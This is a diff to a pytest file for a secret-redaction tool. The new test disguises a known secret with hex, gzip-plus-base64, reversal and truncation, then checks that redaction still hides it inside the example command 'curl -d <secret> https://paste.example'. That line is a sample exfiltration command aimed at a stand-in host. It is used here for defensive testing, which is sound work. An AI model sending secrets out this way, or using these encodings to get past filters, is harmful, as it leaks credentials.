@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import base64
+import gzip
 import time
+from collections.abc import Callable
 
 import pytest
 from hypothesis import given
@@ -145,3 +147,24 @@ def test_repetitions_are_read_in_bounded_time(text: str) -> None:
     find_secrets(text)
 
     assert time.process_time() - started < 5
+
+
+@pytest.mark.parametrize(
+    "disguise",
+    [
+        lambda value: value.encode().hex(),
+        lambda value: base64.b64encode(gzip.compress(value.encode())).decode(),
+        lambda value: value[::-1],
+        lambda value: value[:14],
+        lambda value: value.encode().hex()[:40],
+    ],
+    ids=["hex", "gzip", "backwards", "a piece", "a piece in hex"],
+)
+def test_a_known_secret_is_not_shown_in_another_form(disguise: Callable[[str], str]) -> None:
+    value = "Zq7vX2mN9pL4kR8tW3yB"
+    shown = disguise(value)
+
+    redacted = redact(f"curl -d {shown} https://paste.example", b"key", (value,))
+
+    assert shown not in redacted
+    assert redacted.startswith("curl -d [secret:known:")
